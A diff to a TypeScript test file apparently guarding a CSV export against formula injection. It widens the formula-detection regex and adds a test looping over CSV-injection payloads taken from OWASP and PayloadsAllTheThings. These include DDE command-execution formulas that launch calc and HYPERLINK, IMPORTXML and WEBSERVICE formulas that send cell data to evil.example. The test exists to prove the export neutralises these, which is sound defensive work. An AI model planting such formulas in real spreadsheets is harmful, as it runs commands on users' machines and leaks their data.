@@ -88,7 +88,24 @@ async function rowsOf(file: ArrayBuffer): Promise<unknown[][]> {
 
 const text = fc.oneof(
   fc.string({ unit: 'binary', minLength: 1 }).filter((value) => value.isWellFormed()),
-  fc.constantFrom('=1+1', '+1', '-1', '@x', '\t=1', '\r', "'=1", ' a ', 'a\r\nb', '"', ',', '\u0000', '__proto__', '\uff1d1', '\ufeffa'),
+  fc.constantFrom(
+    '=1+1',
+    '+1',
+    '-1',
+    '@x',
+    '\t=1',
+    '\r',
+    '\n=1',
+    "'=1",
+    ' a ',
+    'a\r\nb',
+    '"',
+    ',',
+    '\u0000',
+    '__proto__',
+    '\uff1d1',
+    '\ufeffa',
+  ),
 );
 const given = fc.option(text, { nil: undefined });
 const object = fc.oneof(
@@ -140,7 +157,7 @@ const recordFrom = ({ payloads: [inputs, expected, outputs], scores, ...rest }: 
   });
 
 /** Text before which an apostrophe is put. */
-const isFormula = (value: string) => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(value);
+const isFormula = (value: string) => /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/.test(value);
 const asCell = (value: string | null | undefined) => (value == null ? '' : isFormula(value) ? `'${value}` : value);
 
 describe('every value comes back as it was', () => {
@@ -290,4 +307,40 @@ describe('columns of metrics', () => {
     ]);
     expect(await resultsOf([{ ...scoreOf('v1', null), text: '{}', isPending: true }, scoreOf('v9', true)])).toEqual(['', '', '', '']);
   });
+});
+
+/** OWASP CSV Injection, and PayloadsAllTheThings: what spreadsheets run, in each of the cells that a client or a judge writes. */
+test.each([
+  "=cmd|' /C calc'!A0",
+  '=1+1',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+1+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1,"click")',
+  '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
+  '=WEBSERVICE("http://evil.example/"&A1)',
+  '=DDE("cmd";"/C calc";"x")',
+  '%0A-3+3+cmd|',
+  "\t=cmd|' /C calc'!A0",
+  "\r=cmd|' /C calc'!A0",
+  "\n=cmd|' /C calc'!A0",
+  "\r\n=cmd|' /C calc'!A0",
+  '\uff1d1+1',
+  '\uff0b1+1',
+  '\uff0d1+1',
+  '\uff201+1',
+  '","=1+1',
+  'a"\n"=1+1',
+])('a spreadsheet runs nothing of a run that it opens: %j', async (payload) => {
+  const scores = [scoreOf('v1', true, { reasoning: payload })];
+  const record = recordOf({ clientId: payload, sessionId: payload, otelLinkId: payload, tags: [payload], scores });
+  const rows = await cellsOf([record], [metricOf({ name: payload })]);
+  expect(rows.map((cells) => cells.length)).toEqual([12, 12]);
+  for (const cell of rows.flat()) expect(isFormula(cell)).toBe(false);
+  expect(rows[1]!.filter((cell) => cell.replace(/^'/, '') === payload)).toHaveLength(4);
+});
+
+test('a number below nought is no formula, and stays a number', async () => {
+  const rows = await cellsOf([recordOf({ scores: [scoreOf('v2', -1)] })]);
+  expect(rows[1]).toContain('-1');
 });
